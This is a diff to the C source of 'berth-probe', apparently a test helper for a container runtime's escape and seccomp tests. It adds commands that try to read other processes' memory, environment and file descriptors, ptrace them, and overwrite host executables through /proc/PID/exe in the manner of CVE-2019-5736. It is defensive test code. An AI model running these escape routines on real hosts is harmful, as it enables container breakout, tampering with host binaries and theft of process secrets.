@@ -8,6 +8,8 @@
  *   berth-probe exit N | sleep SECONDS | signal-exit
  *   berth-probe hog BYTES [HOLD] | forkbomb [HOLD] | spin SECONDS | mknod PATH c|b MAJ MIN
  *   berth-probe counter FILE
+ *   berth-probe statfs PATH | peek PID | snoop DIR SECONDS   (escape attempts, test_escapes.py)
+ *   berth-probe syscall NAME [ARG...]                            (seccomp, test_seccomp.py)
  *
  * It links against libc only and is built with -static, so it runs in a rootfs that holds nothing
  * but itself. Exit status: 0 on success, 1 when the probed operation failed (the JSON says why),
@@ -26,7 +28,10 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/statfs.h>
+#include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
 #include <sys/utsname.h>
@@ -142,7 +147,8 @@ static int usage(void)
         fputs("usage: berth-probe info|mounts|pids|netifs|sysvipc|tty|fds|clocks|ls DIR|cat FILE|\n"
               "                   write FILE DATA|open PATH|stat PATH|exit N|sleep SECONDS|signal-exit|\n"
               "                   hog BYTES [HOLD]|forkbomb [HOLD]|spin SECONDS|mknod PATH c|b MAJ MIN|\n"
-              "                   counter FILE\n",
+              "                   counter FILE|statfs PATH|peek PID|snoop DIR SECONDS|\n"
+              "                   syscall NAME [ARG...]\n",
               stderr);
         return 2;
 }
@@ -1083,6 +1089,344 @@ static int cmd_counter(const char *path)
         }
 }
 
+/* statfs PATH: {"ok":...,"path":...,"type":F_TYPE,"errno":N}; tells a real procfs from a fake one. */
+static int cmd_statfs(const char *path)
+{
+        struct statfs sf;
+        int r = statfs(path, &sf), err = errno;
+
+        json_open('{');
+        json_key("ok");
+        json_bool(r == 0);
+        json_key("path");
+        json_string(path);
+        json_key("type");
+        json_int(r == 0 ? (long long)sf.f_type : 0);
+        json_key("errno");
+        json_int(r == 0 ? 0 : err);
+        json_close('}');
+        return json_finish(0);
+}
+
+/* One attempt of `peek`: {"ok":...,"errno":N}, under @key. */
+static void emit_attempt(const char *key, bool ok, int err)
+{
+        json_key(key);
+        json_open('{');
+        json_key("ok");
+        json_bool(ok);
+        json_key("errno");
+        json_int(ok ? 0 : err);
+        json_close('}');
+}
+
+/* peek PID: what a container process can learn about or do to PID (CVE-2016-9962): list its fds,
+ * read its links, environment and memory, and ptrace it. Each attempt is reported, none is fatal. */
+static int cmd_peek(const char *pid_arg)
+{
+        static const char *const links[] = {"exe", "cwd", "root"};
+        char path[64], buf[256];
+        long pid;
+        bool ok;
+        int fd;
+        DIR *d;
+
+        if (!parse_long(pid_arg, &pid) || pid <= 0)
+                return usage();
+        json_open('{');
+        snprintf(path, sizeof(path), "/proc/%ld/fd", pid);
+        d = opendir(path);
+        ok = false;
+        if (d) {
+                struct dirent *de;
+
+                errno = 0;
+                while ((de = readdir(d)))
+                        ok = ok || isdigit((unsigned char)de->d_name[0]);
+                closedir(d);
+                if (!ok)
+                        errno = ENOENT;
+        }
+        emit_attempt("fd", ok, errno);
+        for (size_t i = 0; i < sizeof(links) / sizeof(links[0]); i++) {
+                snprintf(path, sizeof(path), "/proc/%ld/%s", pid, links[i]);
+                emit_attempt(links[i], readlink(path, buf, sizeof(buf)) >= 0, errno);
+        }
+        snprintf(path, sizeof(path), "/proc/%ld/environ", pid);
+        fd = open(path, O_RDONLY | O_CLOEXEC);
+        ok = fd >= 0 && read(fd, buf, sizeof(buf)) > 0;
+        emit_attempt("environ", ok, errno);
+        if (fd >= 0)
+                close(fd);
+        snprintf(path, sizeof(path), "/proc/%ld/mem", pid);
+        fd = open(path, O_RDONLY | O_CLOEXEC);
+        emit_attempt("mem", fd >= 0, errno);
+        if (fd >= 0)
+                close(fd);
+        /* SEIZE does not stop the tracee; our exit detaches it again. */
+        ok = ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) == 0;
+        emit_attempt("ptrace", ok, errno);
+        if (ok)
+                ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
+        json_close('}');
+        return json_finish(0);
+}
+
+#define SNOOP_MAX 512
+
+/* What `snoop` got hold of: executables of other processes (by O_PATH fd) and fds of others. */
+static struct {
+        int fd;
+        long pid;
+        dev_t dev;
+        ino_t ino;
+        bool written;
+        char target[256];
+} snoop_exes[SNOOP_MAX];
+static size_t n_snoop_exes;
+static struct {
+        long pid, fd;
+        char target[256];
+} snoop_fds[SNOOP_MAX];
+static size_t n_snoop_fds;
+static long snoop_pids[4096];
+static size_t n_snoop_pids;
+
+static bool snoop_seen_pid(long pid)
+{
+        for (size_t i = 0; i < n_snoop_pids; i++)
+                if (snoop_pids[i] == pid)
+                        return true;
+        if (n_snoop_pids < sizeof(snoop_pids) / sizeof(snoop_pids[0]))
+                snoop_pids[n_snoop_pids++] = pid;
+        return false;
+}
+
+/* Opens /proc/PID/exe with O_PATH: that works while PID runs and is dumpable (or we may ptrace
+ * it), and the fd outlives PID. The container's own binaries (@own) are left alone. */
+static void snoop_exe(long pid, const struct stat *own, size_t n_own)
+{
+        char path[64];
+        struct stat st;
+        int fd;
+
+        snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
+        fd = open(path, O_PATH | O_CLOEXEC);
+        if (fd < 0)
+                return;
+        if (fstat(fd, &st) < 0 || n_snoop_exes == SNOOP_MAX)
+                goto skip;
+        for (size_t i = 0; i < n_own; i++)
+                if (st.st_dev == own[i].st_dev && st.st_ino == own[i].st_ino)
+                        goto skip;
+        for (size_t i = 0; i < n_snoop_exes; i++)
+                if (st.st_dev == snoop_exes[i].dev && st.st_ino == snoop_exes[i].ino)
+                        goto skip;
+        snoop_exes[n_snoop_exes].fd = fd;
+        snoop_exes[n_snoop_exes].pid = pid;
+        snoop_exes[n_snoop_exes].dev = st.st_dev;
+        snoop_exes[n_snoop_exes].ino = st.st_ino;
+        if (readlink(path, snoop_exes[n_snoop_exes].target, sizeof(snoop_exes[0].target) - 1) < 0)
+                strcpy(snoop_exes[n_snoop_exes].target, "?");
+        n_snoop_exes++;
+        return;
+skip:
+        close(fd);
+}
+
+/* Records every fd above 2 of PID that we may see (CVE-2016-9962, CVE-2024-21626). */
+static void snoop_fds_of(long pid)
+{
+        char path[64], link[300];
+        struct dirent *de;
+        DIR *d;
+
+        snprintf(path, sizeof(path), "/proc/%ld/fd", pid);
+        d = opendir(path);
+        if (!d)
+                return;
+        while ((de = readdir(d)) && n_snoop_fds < SNOOP_MAX) {
+                bool known = false;
+                long fd;
+                ssize_t k;
+
+                if (!parse_long(de->d_name, &fd) || fd <= 2)
+                        continue;
+                for (size_t i = 0; i < n_snoop_fds; i++)
+                        known = known || (snoop_fds[i].pid == pid && snoop_fds[i].fd == fd);
+                if (known)
+                        continue;
+                snprintf(link, sizeof(link), "%s/%ld", path, fd);
+                k = readlink(link, snoop_fds[n_snoop_fds].target, sizeof(snoop_fds[0].target) - 1);
+                if (k < 0)
+                        continue;
+                snoop_fds[n_snoop_fds].target[k] = '\0';
+                snoop_fds[n_snoop_fds].pid = pid;
+                snoop_fds[n_snoop_fds].fd = fd;
+                n_snoop_fds++;
+        }
+        closedir(d);
+}
+
+/* Tries to reopen each executable we hold for writing and to overwrite its first bytes: what
+ * CVE-2019-5736 did to runc. Fails with ETXTBSY while anything still runs it; retried. */
+static void snoop_write_exes(void)
+{
+        static const char payload[] = "#!/bin/sh\necho overwritten by a container\n";
+
+        for (size_t i = 0; i < n_snoop_exes; i++) {
+                char path[64];
+                int fd;
+
+                if (snoop_exes[i].written)
+                        continue;
+                snprintf(path, sizeof(path), "/proc/self/fd/%d", snoop_exes[i].fd);
+                fd = open(path, O_WRONLY | O_CLOEXEC);
+                if (fd < 0)
+                        continue;
+                if (pwrite(fd, payload, sizeof(payload) - 1, 0) > 0)
+                        snoop_exes[i].written = true;
+                close(fd);
+        }
+}
+
+/* snoop DIR SECONDS: until DIR/stop exists (or SECONDS pass), watches every other process in
+ * sight, grabs the executables and fds of those it may, and tries to overwrite the executables;
+ * creates DIR/grabbed once it holds one. Then reports
+ * {"pids_seen":N,"exes":[...],"written":[...],"fds":[...]}. */
+static int cmd_snoop(const char *dir, const char *seconds_arg)
+{
+        static const char *const own_paths[] = {"/proc/self/exe", "/bin/busybox"};
+        char stopfile[PATH_MAX], grabbed[PATH_MAX];
+        struct stat own[2];
+        size_t n_own = 0;
+        long seconds;
+        double end;
+
+        if (!parse_long(seconds_arg, &seconds) || seconds < 0)
+                return usage();
+        snprintf(stopfile, sizeof(stopfile), "%s/stop", dir);
+        snprintf(grabbed, sizeof(grabbed), "%s/grabbed", dir);
+        for (size_t i = 0; i < 2; i++)
+                if (stat(own_paths[i], &own[n_own]) == 0)
+                        n_own++;
+        end = monotonic_seconds() + (double)seconds;
+        while (access(stopfile, F_OK) < 0 && monotonic_seconds() < end) {
+                size_t had = n_snoop_exes;
+                struct dirent *de;
+                DIR *d = opendir("/proc");
+
+                if (!d)
+                        return report_errno("opendir", "/proc", errno);
+                while ((de = readdir(d))) {
+                        long pid;
+
+                        if (!parse_long(de->d_name, &pid) || pid == getpid())
+                                continue;
+                        snoop_seen_pid(pid);
+                        snoop_exe(pid, own, n_own);
+                        snoop_fds_of(pid);
+                }
+                closedir(d);
+                if (had == 0 && n_snoop_exes > 0) {
+                        int fd = open(grabbed, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
+
+                        if (fd >= 0)
+                                close(fd);
+                }
+                snoop_write_exes();
+        }
+        snoop_write_exes();
+        json_open('{');
+        json_key("pids_seen");
+        json_int((long long)n_snoop_pids);
+        json_key("exes");
+        json_open('[');
+        for (size_t i = 0; i < n_snoop_exes; i++)
+                json_string(snoop_exes[i].target);
+        json_close(']');
+        json_key("written");
+        json_open('[');
+        for (size_t i = 0; i < n_snoop_exes; i++)
+                if (snoop_exes[i].written)
+                        json_string(snoop_exes[i].target);
+        json_close(']');
+        json_key("fds");
+        json_open('[');
+        for (size_t i = 0; i < n_snoop_fds; i++) {
+                json_open('{');
+                json_key("pid");
+                json_int(snoop_fds[i].pid);
+                json_key("fd");
+                json_int(snoop_fds[i].fd);
+                json_key("target");
+                json_string(snoop_fds[i].target);
+                json_close('}');
+        }
+        json_close(']');
+        json_close('}');
+        return json_finish(0);
+}
+
+/*
+ * syscall NAME [ARG...]: one raw system call, so a seccomp filter sees exactly what the test
+ * asked for: {"name":...,"ret":N,"errno":N}. An argument is a number (decimal, 0x hex, 0 octal,
+ * negative ones such as AT_FDCWD = -100 too), "@buf" for a 4 KiB buffer, or else a string
+ * passed by address.
+ */
+static int cmd_syscall(int argc, char **argv)
+{
+        static const struct {
+                const char *name;
+                long nr;
+        } calls[] = {
+                {"getpid", SYS_getpid}, {"getppid", SYS_getppid},         {"getuid", SYS_getuid},
+                {"uname", SYS_uname},   {"personality", SYS_personality}, {"umask", SYS_umask},
+                {"getcwd", SYS_getcwd}, {"mkdirat", SYS_mkdirat},         {"fchmodat", SYS_fchmodat},
+#ifdef SYS_mkdir
+                {"mkdir", SYS_mkdir},
+#endif
+#ifdef SYS_chmod
+                {"chmod", SYS_chmod},
+#endif
+        };
+        static char buf[4096];
+        long args[6] = {0};
+        size_t i;
+
+        for (i = 0; i < sizeof(calls) / sizeof(calls[0]); i++)
+                if (strcmp(calls[i].name, argv[0]) == 0)
+                        break;
+        if (i == sizeof(calls) / sizeof(calls[0]) || argc > 7)
+                return usage();
+        for (int a = 1; a < argc; a++) {
+                char *end = NULL;
+                long long v;
+
+                errno = 0;
+                v = argv[a][0] == '-' ? strtoll(argv[a], &end, 0) : (long long)strtoull(argv[a], &end, 0);
+                if (errno == 0 && end != argv[a] && *end == '\0')
+                        args[a - 1] = (long)v;
+                else if (strcmp(argv[a], "@buf") == 0)
+                        args[a - 1] = (long)buf;
+                else
+                        args[a - 1] = (long)argv[a];
+        }
+        errno = 0;
+        long ret = syscall(calls[i].nr, args[0], args[1], args[2], args[3], args[4], args[5]);
+        int err = ret < 0 ? errno : 0;
+
+        json_open('{');
+        json_key("name");
+        json_string(argv[0]);
+        json_key("ret");
+        json_int(ret);
+        json_key("errno");
+        json_int(err);
+        json_close('}');
+        return json_finish(ret < 0 ? 1 : 0);
+}
+
 int main(int argc, char *argv[])
 {
         const char *cmd;
@@ -1138,5 +1482,13 @@ int main(int argc, char *argv[])
                 return cmd_mknod(argv[2], argv[3], argv[4], argv[5]);
         if (strcmp(cmd, "counter") == 0 && argc == 3)
                 return cmd_counter(argv[2]);
+        if (strcmp(cmd, "statfs") == 0 && argc == 3)
+                return cmd_statfs(argv[2]);
+        if (strcmp(cmd, "peek") == 0 && argc == 3)
+                return cmd_peek(argv[2]);
+        if (strcmp(cmd, "snoop") == 0 && argc == 4)
+                return cmd_snoop(argv[2], argv[3]);
+        if (strcmp(cmd, "syscall") == 0 && argc >= 3)
+                return cmd_syscall(argc - 2, argv + 2);
         return usage();
 }
